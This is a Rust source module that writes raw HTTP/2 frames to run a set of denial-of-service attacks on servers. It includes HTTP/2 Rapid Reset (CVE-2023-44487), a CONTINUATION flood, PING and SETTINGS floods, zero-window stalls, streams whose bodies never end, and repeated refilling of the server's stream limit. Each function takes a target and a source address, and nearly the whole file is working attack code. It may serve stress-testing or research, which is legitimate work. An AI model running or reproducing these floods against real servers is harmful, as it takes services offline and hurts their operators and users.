//! HTTP/2 (RFC 9113) frame by frame, because no decent library lets a client behave like this.

use std::io;
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf, split};

use super::{Stream, Target};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ACK: u8 = 1;
/// `:method` by its index in the static table.
const GET: u8 = 0x82;
const POST: u8 = 0x83;
/// SETTINGS_INITIAL_WINDOW_SIZE = 2^31 - 1, and what the window of the connection lacks to that.
const WINDOW_MOST: [u8; 6] = [0, 4, 0x7f, 0xff, 0xff, 0xff];
const WINDOW_REST: u32 = (1 << 31) - 1 - 65_535;
/// SETTINGS_INITIAL_WINDOW_SIZE = 0.
const WINDOW_0: [u8; 6] = [0, 4, 0, 0, 0, 0];
/// Streams of one connection that are opened at a time.
const STREAMS: u32 = 200;
/// Streams that every server allows.
const ALLOWED: u32 = 100;

type Halves = (ReadHalf<Box<dyn Stream>>, WriteHalf<Box<dyn Stream>>);

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A literal that is not indexed, by the index of its name in the static table (RFC 7541 section 6.2.2).
fn literal(block: &mut Vec<u8>, name: u8, value: &str) {
    match name.checked_sub(15) {
        None => block.push(name),
        Some(rest) => block.extend([15, rest]),
    }
    let length = value.len();
    match u8::try_from(length) {
        Ok(length) if length < 127 => block.push(length),
        _ => {
            let rest = length.saturating_sub(127);
            block.extend([127, (rest % 128) as u8 | 128, (rest / 128) as u8]);
        }
    }
    block.extend(value.as_bytes());
}

/// The header block of a request.
fn request(target: &Target, post: bool) -> Vec<u8> {
    let mut block = start_of(if post { POST } else { GET }, &target.path);
    if post {
        let kind = match target.name.as_str() {
            "grpc" => "application/grpc",
            _ => "application/json",
        };
        literal(&mut block, 31, kind);
    }
    if let Some(token) = &target.token {
        literal(&mut block, 23, &format!("Bearer {token}"));
    }
    block
}

/// The pseudo-headers of a request.
fn start_of(method: u8, path: &str) -> Vec<u8> {
    // :scheme https
    let mut block = vec![method, 0x87];
    literal(&mut block, 1, "localhost");
    literal(&mut block, 4, path);
    block
}

async fn begin(target: &Target, from: Ipv4Addr, settings: &[u8]) -> io::Result<Halves> {
    let mut stream = target.stream(from, true).await?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(SETTINGS, 0, 0, settings)).await?;
    stream.write_all(&frame(SETTINGS, ACK, 0, &[])).await?;
    stream.flush().await?;
    Ok(split(stream))
}

/// The kind, the flags, and the payload of the next frame.
async fn read_frame(reader: &mut ReadHalf<Box<dyn Stream>>) -> io::Result<(u8, u8, Vec<u8>)> {
    let mut head = [0; 9];
    reader.read_exact(&mut head).await?;
    let [a, b, c, kind, flags, ..] = head;
    let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
    reader.read_exact(&mut payload).await?;
    Ok((kind, flags, payload))
}

/// Answers pings, so that the connection looks alive, until the server closes it.
async fn stay_alive(
    mut reader: ReadHalf<Box<dyn Stream>>,
    mut writer: WriteHalf<Box<dyn Stream>>,
) -> io::Result<()> {
    loop {
        let (kind, flags, payload) = read_frame(&mut reader).await?;
        if kind == PING && flags & ACK == 0 {
            writer.write_all(&frame(PING, ACK, 0, &payload)).await?;
            writer.flush().await?;
        }
    }
}

/// Streams whose bodies do not end.
pub(super) async fn streams(target: &Target, from: Ipv4Addr, opened: impl FnOnce()) -> io::Result<()> {
    let (reader, mut writer) = begin(target, from, &[]).await?;
    let block = request(target, true);
    for number in 0..STREAMS {
        let stream = 2 * number + 1;
        writer
            .write_all(&frame(HEADERS, END_HEADERS, stream, &block))
            .await?;
        writer.write_all(&frame(DATA, 0, stream, b"     ")).await?;
    }
    writer.flush().await?;
    opened();
    stay_alive(reader, writer).await
}

/// Streams whose answers have nowhere to go.
pub(super) async fn shut_window(target: &Target, from: Ipv4Addr, opened: impl FnOnce()) -> io::Result<()> {
    let (reader, mut writer) = begin(target, from, &WINDOW_0).await?;
    let block = request(target, false);
    for number in 0..STREAMS {
        let flags = END_HEADERS | END_STREAM;
        writer
            .write_all(&frame(HEADERS, flags, 2 * number + 1, &block))
            .await?;
    }
    writer.flush().await?;
    opened();
    stay_alive(reader, writer).await
}

/// Streams that are reset as soon as they are open (CVE-2023-44487).
pub(super) async fn resets(target: &Target, from: Ipv4Addr, opened: impl FnOnce()) -> io::Result<()> {
    let (mut reader, mut writer) = begin(target, from, &[]).await?;
    let block = request(target, false);
    opened();
    let reading = async {
        let mut rest = [0; 4096];
        while reader.read(&mut rest).await? > 0 {}
        io::Result::Ok(())
    };
    let writing = async {
        for number in 0..1_000_000 {
            let stream = 2 * number + 1;
            let mut both = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
            both.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
            writer.write_all(&both).await?;
        }
        io::Result::Ok(())
    };
    tokio::try_join!(reading, writing).map(drop)
}

/// Frames that want an answer each; not one is read.
pub(super) async fn pings(target: &Target, from: Ipv4Addr, opened: impl FnOnce()) -> io::Result<()> {
    let (_reader, mut writer) = begin(target, from, &[]).await?;
    opened();
    let mut both = frame(PING, 0, 0, &[7; 8]);
    both.extend(frame(SETTINGS, 0, 0, &[]));
    loop {
        writer.write_all(&both).await?;
    }
}

/// As [`pings`], beside requests that the server waits for the end of: another every few milliseconds.
pub(super) async fn pings_beside_streams(
    target: &Target,
    from: Ipv4Addr,
    opened: impl FnOnce(),
) -> io::Result<()> {
    const GAP: Duration = Duration::from_millis(6);
    let (mut reader, mut writer) = begin(target, from, &[]).await?;
    let mut read = tokio::io::sink();
    opened();
    let (block, pings) = (
        start_of(GET, &target.open_path),
        frame(PING, 0, 0, &[7; 8]).repeat(900),
    );
    let writing = async {
        let mut last: Option<Instant> = None;
        let mut stream = 1;
        loop {
            if last.is_none_or(|last| last.elapsed() > GAP) {
                writer
                    .write_all(&frame(HEADERS, END_HEADERS, stream, &block))
                    .await?;
                (last, stream) = (Some(Instant::now()), stream + 2);
            }
            writer.write_all(&pings).await?;
        }
    };
    tokio::select! {
        ended = tokio::io::copy(&mut reader, &mut read) => ended.map(drop),
        ended = writing => ended,
    }
}

/// A head that does not end.
pub(super) async fn continuations(target: &Target, from: Ipv4Addr, opened: impl FnOnce()) -> io::Result<()> {
    let (mut reader, mut writer) = begin(target, from, &[]).await?;
    writer
        .write_all(&frame(HEADERS, 0, 1, &start_of(GET, &target.open_path)))
        .await?;
    opened();
    let reading = async { tokio::io::copy(&mut reader, &mut tokio::io::sink()).await };
    let writing = async {
        loop {
            let mut block = Vec::new();
            // A literal that is not indexed, with a name of its own.
            block.extend([0, 1, b'x', 1, b'y']);
            writer.write_all(&frame(CONTINUATION, 0, 1, &block)).await?;
        }
    };
    tokio::select! {
        ended = reading => ended.map(drop),
        ended = writing => ended,
    }
}

/// Requests for an open document on as many streams as are allowed; each that ends is followed by another.
pub(super) async fn cheap_streams(target: &Target, from: Ipv4Addr, opened: impl FnOnce()) -> io::Result<()> {
    let (mut reader, mut writer) = begin(target, from, &WINDOW_MOST).await?;
    writer
        .write_all(&frame(WINDOW_UPDATE, 0, 0, &WINDOW_REST.to_be_bytes()))
        .await?;
    let block = start_of(GET, &target.open_path);
    let mut next = 1;
    for _ in 0..ALLOWED {
        open_next(&mut writer, &block, &mut next).await?;
    }
    opened();
    loop {
        let (kind, flags, payload) = read_frame(&mut reader).await?;
        if kind == PING && flags & ACK == 0 {
            writer.write_all(&frame(PING, ACK, 0, &payload)).await?;
        }
        if matches!(kind, DATA | HEADERS) && flags & END_STREAM != 0 || kind == RST_STREAM {
            open_next(&mut writer, &block, &mut next).await?;
        }
    }
}

async fn open_next(
    writer: &mut WriteHalf<Box<dyn Stream>>,
    block: &[u8],
    stream: &mut u32,
) -> io::Result<()> {
    let flags = END_HEADERS | END_STREAM;
    writer.write_all(&frame(HEADERS, flags, *stream, block)).await?;
    *stream += 2;
    writer.flush().await
}
